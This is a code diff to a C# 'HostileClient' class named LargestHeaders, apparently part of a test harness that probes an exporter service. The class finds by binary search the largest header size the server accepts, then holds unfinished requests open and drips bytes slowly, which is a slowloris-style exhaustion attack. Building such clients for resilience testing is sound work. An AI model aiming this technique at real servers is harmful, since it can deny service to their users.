@@ -4,13 +4,13 @@ using EcsExporter.Attack.Wire;
 namespace EcsExporter.Attack.Clients;
 
 /// <summary>
-/// Unfinished requests with the longest header that the exporter takes, whatever its limit is: it is found out first, with requests that end.
+/// Unfinished requests with as many headers as the exporter takes, whatever its limit is: it is found out first, with requests that end.
 /// </summary>
 internal sealed class LargestHeaders : HostileClient
 {
-    private const int Smallest = 512;
+    private const int Smallest = 1024;
     private const int Largest = 64 * 1024;
-    private const int Precision = 64;
+    private const int Precision = 512;
     private static readonly TimeSpan DripInterval = TimeSpan.FromSeconds(4);
 
     private ReadOnlyMemory<byte> _request;
@@ -25,8 +25,7 @@ internal sealed class LargestHeaders : HostileClient
             (taken, refused) = await IsTakenAsync(target, middle, end) ? (middle, refused) : (taken, middle);
         }
 
-        // Room for the bytes that drip.
-        _request = RequestText.WithOneField(taken - Precision, isEnded: false);
+        _request = RequestText.WithFields(taken, isEnded: false);
     }
 
     /// <inheritdoc/>
@@ -42,7 +41,7 @@ internal sealed class LargestHeaders : HostileClient
         try
         {
             await using var connection = await target.ConnectAsync(receiveBuffer: null, end);
-            await connection.SendAsync(RequestText.WithOneField(bytes, isEnded: true), end);
+            await connection.SendAsync(RequestText.WithFields(bytes, isEnded: true), end);
             var answer = new byte[64];
             var length = await connection.ReceiveAsync(answer, end);
             return answer.AsSpan(0, length).StartsWith("HTTP/1.1 200 "u8);
